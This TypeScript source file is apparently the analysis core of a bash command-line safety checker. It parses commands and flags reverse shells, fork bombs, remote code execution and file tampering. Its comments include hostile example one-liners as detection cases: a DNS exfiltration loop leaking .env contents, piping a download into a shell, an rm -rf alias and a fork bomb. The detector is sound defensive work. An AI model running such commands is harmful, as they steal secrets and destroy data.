// Judges a shell command line: parses it with the bash grammar, visits every simple command wherever it sits
// (pipelines, lists, subshells, functions, loops, substitutions, here-documents, nested sh -c / eval / ssh),
// and reports findings with their tier. Pure once the parser is loaded (no I/O per command).
import { peel, type Argv } from './argv.js';
import { execChecks, pipelineShellOverNetwork, DOWNLOADERS, runsCode, STDIN_PATHS } from '../checks/exec.js';
import {
  declaredWord,
  redirectOwner,
  writeMode,
  commandWords,
  named,
  pipelineChain,
  pipelineLeaves,
  printedText,
  redirectsOf,
  stdinTextOf,
} from './syntax.js';
import { resolveDir } from './paths.js';
import { outputFileOf, outputOf } from './output.js';
import { checkResourceAbuse, loopResourceAbuse, parallelRequests } from '../checks/resource-abuse.js';
import { checkWrite } from '../checks/files.js';
import { gitSurfaceWrite } from '../checks/git-surfaces.js';
import { ciConfigWrite } from '../checks/ci.js';
import { wasDownloaded } from '../checks/fetched.js';
import { packageSettingsWrite } from '../checks/supply-chain.js';
import { checkLookup } from '../checks/dispatch.js';
import { CREATED_HERE, DISPOSABLE_RULES, localTarget } from '../checks/local-target.js';
import { checkAssignment } from '../checks/identity.js';
import { checkGpuFleet, checkMiner } from '../checks/miner.js';
import { checkLifecycle } from '../checks/lifecycle.js';
import { checkDataTargets } from '../checks/data-targets.js';
import { checkSecretSinks } from '../checks/secret-sinks.js';
import { checkSecretRead } from '../checks/secret-read.js';
import { agentRulesWrite } from '../checks/agent-rules.js';
import { checkWriteTampering } from '../checks/test-tampering.js';
import { checkExposure } from '../checks/exposure.js';
import { checkRemoteInstall } from '../checks/remote-install.js';
import { checkWrappers } from '../checks/wrappers.js';
import { xargsInterpreter, xargsKnownItems, xargsReplacement } from '../checks/xargs.js';
import { filesWrittenBy } from './changed-before-run.js';
import { fedShell } from '../checks/fed-shells.js';
import { checkUnset, type WriteMode } from '../checks/traces.js';
import { initScriptCheck } from '../checks/system.js';
import { withAdd, type CheckContext, type Io, type Upstream } from '../checks/types.js';
import { indirectCode } from './code-in-options.js';
import {
  aliasDefinitions,
  carriedVariable,
  commandStartFiles,
  importedFunction,
  codeFileWrite,
  declarationCommand,
  gitConfig,
} from './later-commands.js';
import { taskRunner } from '../programs/build/task-runners.js';
import { assigned, evaluatedAssignment, evaluatedNode } from './reevaluation.js';
import { declarationArgs, reevaluatingBuiltin } from './reevaluating-builtins.js';
import { lineEditing } from './line-editing.js';
import { inDir, lookedUp, taskPathDirs } from '../programs/loaders/path-lookup.js';
import { projectRunner } from '../programs/loaders/runners.js';
import { mayBeWritten } from '../programs/loaders/run-file.js';
import { scriptKey } from './scripts.js';
import { expandGlob } from '../programs/loaders/glob.js';
import type { ParseBash, SyntaxNode } from './parser.js';
import { type Tier } from '../../common/rules.js';
import { applyRedirect, enclosingRedirects, type Fds } from './stdin.js';
import { gitContentWrite } from '../programs/git/config-content.js';
import { literal, wordOf, type Word } from './words.js';
import { substitutionsInText } from './text-substitutions.js';

import { AnalysisState, type DetectOptions, type Verdict } from './analysis-state.js';

export type { Verdict } from './analysis-state.js';

/** Variables that are usually in the environment already: setting them in the line changes later lookups. */
const INHERITED_LOOKUPS = /^(PYTHONPATH|NODE_PATH|PERL5LIB|RUBYLIB|HOME|XDG_CONFIG_HOME|GIT_[A-Z_]+)$/;

/** A `for` loop over more values than this is judged as over unknown ones (its body once, the variable unknown). */
const MAX_LOOP_VALUES = 16;

/** Pipelines longer than this are not judged element by element: they ask. */
const MAX_PIPELINE = 128;

/** PowerShell's automatic variables (never set in bash, whose names no bash tool uses). */
const POWERSHELL_AUTOMATIC =
  /^\$(PSVersionTable|PSHOME|PSEdition|PSCulture|PSUICulture|PSScriptRoot|PSCommandPath|PSBoundParameters|IsWindows|IsLinux|IsMacOS|IsCoreCLR|ExecutionContext|LASTEXITCODE|PROFILE)(\.\w+)*$/;

function containsDownload(node: SyntaxNode): boolean {
  if (node.type === 'command') {
    const argv = peel(commandWords(node)).argv;
    if (argv?.name && DOWNLOADERS.has(argv.name)) return true;
  }
  return named(node).some(containsDownload);
}

const EXEC = execChecks(containsDownload);

const texts = (nodes: readonly SyntaxNode[]): string[] => nodes.map((n) => n.text);

const checkFor = checkLookup(EXEC);

class Analysis extends AnalysisState {
  protected walk(node: SyntaxNode): void {
    evaluatedNode(node, this.vars, this);
    switch (node.type) {
      case 'command':
        this.command(node);
        break;
      case 'variable_assignment':
        this.assignment(node);
        break;
      case 'file_redirect':
        this.redirect(node);
        break;
      case 'function_definition':
        this.functionDefinition(node);
        break;
      case 'pipeline':
        if (!this.pipeline(node)) return; // too long to judge: its commands are not walked
        break;
      case 'declaration_command':
        declarationCommand(node, this.vars, this);
        declarationArgs(
          named(node).map((c) => declaredWord(c, this.vars)),
          this,
        );
        break;
      case 'for_statement':
        this.forLoop(node);
        loopResourceAbuse(node, this);
        break;
      case 'while_statement':
      case 'c_style_for_statement':
        loopResourceAbuse(node, this);
        break;
      case 'expansion':
      case 'heredoc_body':
      case 'command_substitution':
        for (const inner of substitutionsInText(node)) this.script(inner);
        break;
      case 'unset_command':
        checkUnset(texts(named(node)), this);
        reevaluatingBuiltin(
          { name: 'unset', written: 'unset', args: named(node).map((c) => wordOf(c, this.vars)), viaXargs: false },
          this,
        );
        break;
    }
    for (const child of named(node)) this.walk(child);
  }

  /**
   * What an earlier pipeline element prints, read once per element while the known variables stay the same: every
   * later command of a pipeline asks for it, so `a | b | … ` of n commands reads n elements, not n².
   */
  private upstreamOf(element: SyntaxNode): Upstream {
    let known = this.upstreamSeen.get(element);
    if (!known) this.upstreamSeen.set(element, (known = this.printedBy(element)));
    return known;
  }

  /** `X=literal` outside a command is remembered; `X=$(mktemp ...)` is a temporary path. */
  private assignment(node: SyntaxNode): void {
    const name = node.childForFieldName('name')?.text;
    const value = node.childForFieldName('value');
    if (!name) return;
    const w = value ? wordOf(value, this.vars) : literal('');
    const valueText = value?.text ?? '';
    checkAssignment(name, w, this);
    evaluatedAssignment(name, w, valueText, this);
    if (node.parent?.type === 'command') return;
    if (name === 'PATH') this.pathDirs = taskPathDirs(w, this.where);
    carriedVariable(name, w, this);
    // Exported (or a search path or home that is exported already): later commands of the line look things up by it.
    const exporting =
      node.parent?.type === 'declaration_command' && /^(export|declare|typeset)\b/.test(node.parent.text);
    if (exporting || INHERITED_LOOKUPS.test(name)) this.exported.set(name, w);
    this.upstreamSeen = new WeakMap();
    assigned(name, w, valueText, this.values);
    if (!w.dynamic) this.vars.set(name, w.text);
    else if (/^\$\(\s*mktemp\b/.test(valueText)) this.vars.set(name, '/tmp/mktemp.tmp');
    else if (/^"?\$\(\s*(docker|podman|nerdctl)\s+(container\s+)?(create|run\s+(-\w+\s+)*-d)\b/.test(valueText))
      this.vars.set(name, CREATED_HERE);
    else this.vars.delete(name);
  }

  private command(node: SyntaxNode): void {
    // Commands of files being judged (a script's own lines) are not earlier commands of the line.
    if (this.fileDepth === 0) this.commandsSeen += 1;
    const redirects = redirectsOf(node);
    const io: Io = { upstream: [], stdinText: stdinTextOf(redirects) };
    const input = redirects.find((r) => r.type === 'file_redirect' && r.children.some((c) => c.type === '<'));
    const target = input?.childForFieldName('destination');
    if (target) io.stdinFile = wordOf(target, this.vars);
    // Earlier elements of the pipeline feed this command's standard input, unless it reads a file instead
    // (`cat a | sh < b` runs b).
    if (!io.stdinFile || STDIN_PATHS.test(io.stdinFile.text))
      for (const prev of pipelineChain(node).before) io.upstream.push(this.upstreamOf(prev));
    const words = commandWords(node, this.vars);
    this.descriptorInput(node, redirects, words, io);
    io.output = this.inherited?.output === 'consumed' ? 'consumed' : outputOf(node);
    io.outputFile = outputFileOf(node);
    if (this.inherited && io.upstream.length === 0 && io.stdinText === undefined && io.stdinFile === undefined) {
      io.upstream = this.inherited.upstream;
      io.stdinText = this.inherited.stdinText;
      io.stdinFile = this.inherited.stdinFile;
    }
    const assignments = named(node)
      .filter((c) => c.type === 'variable_assignment')
      .flatMap((a) => {
        const name = a.childForFieldName('name')?.text;
        const value = a.childForFieldName('value');
        return name && value ? [{ name, value: wordOf(value, this.vars) }] : [];
      });
    this.judge(words, io, assignments);
  }

  /**
   * Standard input set otherwise than by the command's own `<` or here-document: a descriptor named explicitly, a
   * redirect of the group or loop around it, a descriptor an earlier `exec` opened. `exec` with only redirects changes
   * them for the rest of the line.
   */
  private descriptorInput(node: SyntaxNode, redirects: SyntaxNode[], words: Word[], io: Io): void {
    const fds: Fds = new Map(this.fds);
    for (const level of enclosingRedirects(node)) for (const r of level) applyRedirect(r, fds, undefined, this.vars);
    for (const r of redirects) applyRedirect(r, fds, node, this.vars);
    if (words.length === 1 && words[0]!.text === 'exec') for (const [fd, source] of fds) this.fds.set(fd, source);
    const source = fds.get('0');
    if (!source || io.stdinText !== undefined || io.stdinFile !== undefined) return;
    // A redirect of the command or its group wins over the pipe (`cat a | { sh; } < b` runs b); what `exec` set
    // earlier is the input only of commands nothing else feeds.
    if (source === this.fds.get('0') && io.upstream.length > 0) return;
    io.upstream = [];
    if ('file' in source) io.stdinFile = source.file;
    else if ('text' in source) io.stdinText = source.text;
    else io.upstream.push({ argv: null, dynamic: true });
  }

  /** Peels wrappers from an argv and runs the check for the command that really runs. */
  protected judge(words: Word[], io: Io, assignments: { name: string; value: Word }[] = []): void {
    if (words.length === 0 || !this.step()) return;
    const { argv, splitString, shell, chdir } = peel(words);
    checkWrappers(words, argv, this, io);
    const nameWord = argv ? words[words.length - argv.args.length - 1] : undefined;
    if (argv && nameWord?.expansion) {
      // `X="rm -rf /"; $X`: the command name comes from a variable. It asks, and the value is judged as bash splits it.
      this.add(
        'dynamic-command',
        `computed command name: ${nameWord.expansion.text} (= ${nameWord.text.slice(0, 80)})`,
      );
      const ifs = this.vars.get('IFS') ?? ' \t\n';
      const parts = nameWord.expansion.split
        ? nameWord.text.split(new RegExp(`[${ifs.replace(/[\]\\^-]/g, '\\$&')}]+`)).filter((p) => p !== '')
        : [nameWord.text];
      if (parts.length !== 1 || parts[0] !== nameWord.text) return this.argv([...parts.map(literal), ...argv.args], io);
    }
    if (splitString !== undefined) this.script(splitString);
    if (shell) EXEC('sh')?.({ name: 'sh', written: 'sh', args: [], viaXargs: false }, io, this);
    if (!argv) return;
    if (argv.name === null) {
      // `time ( ... )` and `exec {fd}>file`: the group is walked on its own.
      if (/^[({]/.test(argv.written)) return;
      // `$PSVersionTable` typed alone shows a PowerShell automatic variable; in bash it is unset and runs nothing.
      if (argv.args.length === 0 && POWERSHELL_AUTOMATIC.test(argv.written)) return;
      // `$env:NAME = 'value'`: a PowerShell variable set for later commands, judged like `NAME=value`.
      const ps = /^\$env:(\w+)$/i.exec(argv.written);
      if (ps && argv.args[0]?.text === '=' && argv.args.length === 2)
        return checkAssignment(ps[1]!, argv.args[1]!, this);
      return this.add('dynamic-command', argv.written);
    }
    if (wasDownloaded(this.downloaded, argv.written))
      this.add('remote-code-exec', `${argv.written} was downloaded in this command line`);
    xargsKnownItems(words, argv, io, this);
    if (xargsInterpreter(words, argv, io, this)) return;
    if (fedShell(argv, io, this)) return;
    if (argv.name === 'cd' || argv.name === 'pushd') {
      this.where.cwd = argv.args[0] ? resolveDir(argv.args[0], this.where) : '/~home';
      return;
    }
    // `--help` anywhere, `--version` last (`cargo yank --version 0.4.1 crate` gives it a value).
    if (argv.args.some((a) => a.text === '--help') || argv.args.at(-1)?.text === '--version') return;
    // `env BASH_ENV=x.sh bash ...`, `sudo PAGER=... git log`: a wrapper's NAME=VALUE words are the command's variables.
    const wrapperWords = words.slice(0, words.length - argv.args.length - 1);
    const settings = wrapperWords.flatMap((w) => {
      const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(w.text);
      if (m) return [{ name: m[1]!, value: { ...w, text: m[2]! } }];
      const other = /^([^=]+)=(.*)$/s.exec(w.text);
      if (other) importedFunction(other[1]!, { ...w, text: other[2]! }, this);
      return [];
    });
    // `sudo LD_PRELOAD=x.so cmd`, `env PATH=/tmp/x:$PATH make`: judged like the same assignment before the command.
    for (const s of settings) checkAssignment(s.name, s.value, this);
    for (const s of settings) evaluatedAssignment(s.name, s.value, s.value.text, this);
    const allAssignments = [...assignments, ...settings];
    commandStartFiles(argv.name, allAssignments, this);
    const outerEnv = this.commandEnv;
    this.commandEnv = new Map([...this.exported, ...allAssignments.map((a): [string, Word] => [a.name, a.value])]);
    try {
      this.judgeCommand(argv, io, words, allAssignments, chdir);
    } finally {
      this.commandEnv = outerEnv;
      // Later commands of the line may load a file this one makes (`cp evil.py helper.py && python main.py`).
      for (const a of argv.args) {
        const key = a.dynamic || a.text.startsWith('-') ? undefined : this.keyOf(a.text.replace(/^[^=]*=/, ''));
        if (typeof key === 'string') this.named.add(key);
      }
      // What it writes over (`cp evil.py helper.py`, a program's `subprocess.run(['cp', ...])`): a module loaded from
      // there is not what is on disk now.
      const argTexts = argv.args.map((a) => (a.dynamic ? '' : a.text));
      if (argv.name !== null)
        for (const path of filesWrittenBy(argv.name, argTexts)) {
          const key = path === '' ? undefined : this.keyOf(path);
          if (typeof key === 'string' && !this.writtenText.has(key)) this.overwritten.add(key);
          // What the write rules do not know as writers (patch, sort -o, sponge...) still may not write git's files.
          if (path !== '') gitSurfaceWrite(literal(path), `${argv.name} writes ${path}`, this);
        }
    }
  }

  private judgeCommand(
    argv: Argv,
    io: Io,
    words: Word[],
    allAssignments: { name: string; value: Word }[],
    chdir: Word | undefined,
  ): void {
    const name = argv.name === 'busybox' ? null : argv.name;
    // Where the command's target is explicitly local or it is a dry run, its data-destroying findings are dropped.
    const local = this.localFilter(argv, allAssignments);
    checkMiner(argv, this);
    checkGpuFleet(argv, this);
    checkSecretSinks(argv, io, this);
    checkSecretRead(argv, io, local);
    checkResourceAbuse(argv, io, this, io.outputFile);
    checkLifecycle(argv, local);
    checkDataTargets(argv, allAssignments, local);
    checkExposure(argv, this);
    checkRemoteInstall(argv, this);
    indirectCode(argv, allAssignments, io, this);
    reevaluatingBuiltin(argv, this);
    // `xargs sh -c` / `xargs -I{} sh -c {}` (any replacement string): the shell runs text xargs reads at run time.
    const replacement = argv.viaXargs ? xargsReplacement(words, argv) : undefined;
    const runsRead =
      argv.args.at(-1)?.text === '-c' ||
      (replacement !== undefined && argv.args.some((a) => a.text.includes(replacement)));
    if (argv.viaXargs && runsCode(argv.name) && runsRead)
      this.add('dynamic-command', `${argv.written} runs what xargs reads at run time`);
    if (argv.name === 'alias') {
      aliasDefinitions(argv, this);
      for (const a of argv.args) {
        const m = /^([^=\s/]+)=(.*)$/s.exec(a.text);
        if (m && !a.dynamic) this.aliases.set(m[1]!, m[2]!);
      }
    }
    // A name defined as an alias earlier runs the alias's text with these arguments (`alias ls='rm -rf'; ls ~/data`).
    const alias = argv.name !== null && argv.written === argv.name ? this.aliases.get(argv.name) : undefined;
    if (alias !== undefined && !this.expanding.has(argv.name!)) {
      this.expanding.add(argv.name!);
      try {
        this.script([alias, ...argv.args.map((a) => `'${a.text.replace(/'/g, `'\\''`)}'`)].join(' '));
      } finally {
        this.expanding.delete(argv.name!);
      }
    }
    if (argv.name === 'git') gitConfig(argv, this);
    taskRunner(argv, this);
    projectRunner(argv, this);
    this.lookup(argv);
    // ./x.sh, bin/deploy: a program run by its path is read and judged (installed programs are not).
    if (argv.written.includes('/') && !initScriptCheck(argv.written)) this.runsFile(literal(argv.written), null);
    const check = initScriptCheck(argv.written) ?? (name ? checkFor(name) : undefined);
    if (!check) return;
    const before = this.where.cwd;
    if (chdir) this.where.cwd = resolveDir(chdir, this.where);
    try {
      // Judged again only when the command runs elsewhere (`git -C dir`): a file it names is then relative to there.
      check(argv, io, chdir ? this.localFilter(argv, allAssignments) : local);
    } finally {
      this.where.cwd = before;
    }
  }

  /**
   * A command name found through a lookup the line changed: `hash -p FILE NAME` runs FILE, a PATH with a directory of
   * the task first runs the file of that name there when there is one (read and judged like `./bin/x`).
   */
  private lookup(argv: Argv): void {
    if (argv.name === 'hash') {
      const p = argv.args.findIndex((a) => a.text === '-p');
      const file = argv.args[p + 1];
      if (p >= 0 && file) for (const n of argv.args.slice(p + 2)) this.hashed.set(n.text, file);
      // The shell keeps the binding: later calls run the file under that name too, as it is then.
      if (p >= 0 && file) this.later(() => this.runsFile(file, null));
      if (argv.args.some((a) => a.text === '-r')) this.hashed.clear();
      return;
    }
    if (argv.name === null || argv.written !== argv.name || !lookedUp(argv.name)) return;
    const hashed = this.hashed.get(argv.name);
    if (hashed) return this.runsFile(hashed, null);
    const set = this.commandEnv.get('PATH');
    for (const dir of set ? taskPathDirs(set, this.where) : this.pathDirs) {
      const path = inDir(dir, argv.name);
      const key = this.keyOf(path);
      const file = typeof key === 'string' ? this.fileAt(key) : undefined;
      // Missing now, it may be made by an earlier command of the line (`cp /tmp/x bin/ls; ls`).
      if (typeof key === 'string' && file && 'missing' in file && this.namedEarlier(key))
        this.add('unread-script', mayBeWritten(key));
      this.runsFile(literal(path), null, true);
    }
  }

  /** This context, or one that drops data-destroying findings when the command's target is local or a dry run. */
  private localFilter(argv: Argv, assignments: { name: string; value: Word }[]): CheckContext {
    if (!localTarget(argv, assignments, this.where)) return this;
    return withAdd(this, (id, detail) => DISPOSABLE_RULES.has(id) || this.add(id, detail));
  }

  private redirect(node: SyntaxNode): void {
    const dest = node.childForFieldName('destination');
    if (!dest || dest.type === 'number') return;
    const op = node.children.find((c) => !c.isNamed)?.type ?? '>';
    const owner = redirectOwner(node);
    const ownerArgv = owner ? peel(commandWords(owner, this.vars)).argv : null;
    if (dest.type === 'process_substitution') {
      // `curl URL > >(sh)`, `echo 'cmd' > >(bash)`: the substitution's program reads what the owner writes.
      const reader = this.argvOf(dest);
      if (op.includes('>') && reader && runsCode(reader.name)) {
        const upstream = [{ argv: ownerArgv, ...(owner ? printedText(owner, ownerArgv, this.vars) : {}) }];
        this.argv([literal(reader.written), ...reader.args], { upstream });
      }
      return;
    }
    const word = wordOf(dest, this.vars);
    if (/^\/dev\/(tcp|udp)\//.test(word.text)) {
      // A shell wired to a network socket is a reverse shell; `echo > /dev/tcp/host/port` only checks a port.
      if (runsCode(ownerArgv?.name ?? null)) this.add('reverse-shell', `${op} ${word.text}`);
      return;
    }
    const printed = owner ? printedText(owner, ownerArgv, this.vars).text : undefined;
    if (op.includes('>'))
      this.writesText(word, printed, writeMode(op, ownerArgv, printed), `${op} ${word.text}`, ownerArgv?.name === ':');
  }

  /** A file written with `text` by a redirect or by tee (CheckContext); `fileTool`: `: > PATH`, a file tool's write. */
  writesText(word: Word, text: string | undefined, mode: WriteMode, detail: string, fileTool = false): void {
    checkWrite(word, detail, this, mode);
    codeFileWrite(word, this);
    ciConfigWrite(word, text, detail, this);
    agentRulesWrite(word, text, detail, this);
    checkWriteTampering(word, fileTool ? undefined : text, mode === 'append', detail, this);
    packageSettingsWrite(word, text, detail, this);
    gitContentWrite(word, fileTool && this.fileToolContent !== undefined ? this.fileToolContent : text, detail, this);
    const key = word.dynamic ? undefined : scriptKey(word.text, this.where);
    if (text !== undefined && key)
      this.writtenText.set(key, mode === 'append' ? `${this.writtenText.get(key) ?? ''}\n${text}` : text);
    else if (key) this.overwritten.add(key);
  }

  /**
   * `for p in $(pgrep x); do kill -9 "$p"; done`: the body acts on every element of a computed list, so it is judged
   * once more with the loop variable replaced by the list (`kill -9 "$(pgrep x)"`).
   */
  private forLoop(node: SyntaxNode): void {
    const name = node.childForFieldName('variable')?.text;
    const values = node.childrenForFieldName('value').filter((v): v is SyntaxNode => v !== null);
    const list = values.find((v) => v.type === 'command_substitution');
    const body = node.childForFieldName('body');
    if (!name || !body) return;
    const inner = texts(named(body)).join('\n');
    const uses = new RegExp(`\\$(\\{${name}\\}|${name}\\b)`, 'g');
    if (list) return void (uses.test(inner) && this.script(inner.replace(uses, () => list.text)));
    // `for d in a b packages/*/`: plain values (a glob expanded as bash would, where files are read) are known. The
    // body is walked next with the last one (what the variable holds after the loop), judged here with each other one.
    const known = values
      .map((v) => wordOf(v, this.vars))
      .flatMap((w) => {
        if (w.dynamic) return ['$'];
        if (!w.pattern || !this.reading) return [w.text];
        const r = expandGlob(w.text, this);
        return 'paths' in r ? r.paths : ['$'];
      });
    if (known.length === 0 || known.length > MAX_LOOP_VALUES || known.some((v) => !/^[\w./@:+,=*?-]+$/.test(v))) return;
    const cwd = this.where.cwd;
    for (const v of known.slice(0, -1)) {
      this.script(inner.replace(uses, () => v));
      this.where.cwd = cwd; // each pass starts where the loop does
    }
    this.vars.set(name, known.at(-1)!);
  }

  /** `f(){ f | f & }; f` or `f(){ while :; do f & done; }`: a function that keeps starting itself. */
  private functionDefinition(node: SyntaxNode): void {
    const name = node.childForFieldName('name')?.text;
    const body = node.childForFieldName('body');
    if (!name || !body) return;
    let calls = 0;
    let inLoop = false;
    const count = (n: SyntaxNode, loop: boolean): void => {
      if (n.type === 'command' && peel(commandWords(n)).argv?.written === name) {
        calls += 1;
        inLoop ||= loop;
      }
      for (const c of named(n)) count(c, loop || /^(while|for|until|c_style_for)_statement$/.test(n.type));
    };
    count(body, false);
    if (calls >= 2 || inLoop) this.add('fork-bomb', node.text.slice(0, 80));
  }

  /** Judges a pipeline as a whole; false when it is too long for its commands to be judged one by one. */
  private pipeline(node: SyntaxNode): boolean {
    if (node.parent?.type === 'pipeline' || node.parent?.parent?.type === 'pipeline') return true; // judged as part of the outer one
    const leaves = pipelineLeaves(node);
    // Each command reads what every earlier one prints: past this length a person decides, in bounded time.
    if (leaves.length > MAX_PIPELINE) {
      this.add('too-long', `a pipeline of ${leaves.length} commands (more than ${MAX_PIPELINE})`);
      return false;
    }
    const names = leaves.map((el) => this.argvOf(el)?.name ?? null);
    if (pipelineShellOverNetwork(names)) this.add('reverse-shell', node.text.slice(0, 80));
    parallelRequests(node.text, this);
    this.readLoops(leaves);
    return true;
  }

  /**
   * `cat .env | xxd -p | while read l; do nslookup $l.x.example; done`: the body acts on every line the pipeline
   * before it prints, so it is judged once more with the loop variable replaced by that output (`$(cat .env | xxd -p)`).
   */
  private readLoops(leaves: SyntaxNode[]): void {
    leaves.forEach((el, i) => {
      if (i === 0 || el.type !== 'while_statement') return;
      const m = /^\s*read\s+(?:-\w+\s+)*([A-Za-z_]\w*)\s*;?\s*$/.exec(el.childForFieldName('condition')?.text ?? '');
      const body = el.childForFieldName('body');
      if (!m || !body) return;
      const before = texts(leaves.slice(0, i)).join(' | ');
      const inner = texts(named(body)).join('\n');
      const uses = new RegExp(`\\$(\\{${m[1]!}\\}|${m[1]!}\\b)`, 'g');
      if (uses.test(inner)) this.script(inner.replace(uses, () => `$(${before})`));
    });
  }
}

/** Findings are listed worst tier first. */
const TIER_ORDER: Record<Tier, number> = { dangerous: 1, hardline: 2 };

/** Judges one command line. `parse` comes from loadBashParser(). */
export function detect(parse: ParseBash, command: string, opts: DetectOptions = {}): Verdict {
  const analysis = new Analysis(parse, opts.cwd, -1, opts.files, opts.programs);
  analysis.fileToolContent = opts.written;
  try {
    if (command.trim() === '') {
      // nothing to judge
    } else if (opts.language !== undefined) analysis.code(command, opts.language);
    else analysis.script(command, opts.stdin === undefined ? undefined : { upstream: [], stdinText: opts.stdin });
    const edited = opts.terminal && opts.stdin !== undefined ? lineEditing(opts.stdin) : undefined;
    if (edited !== undefined) analysis.add('line-editing', edited);
    analysis.drainLoads();
    analysis.runExitHandlers();
  } catch (err) {
    // A defect in a check must not let the command through, nor stop the run: a person decides. (Nesting deep
    // enough to exhaust the stack is the caller's to report as too deep.)
    if (err instanceof RangeError) throw err;
    analysis.add('check-failed', err instanceof Error ? err.message : String(err));
  }
  const findings = [...analysis.findings.values()].sort((a, b) => TIER_ORDER[b.tier] - TIER_ORDER[a.tier]);
  const scripts = [...analysis.wanted];
  return {
    command,
    dangerous: findings.length > 0,
    tier: findings[0]?.tier ?? null,
    findings,
    ...(scripts.length > 0 ? { scripts } : {}),
  };
}
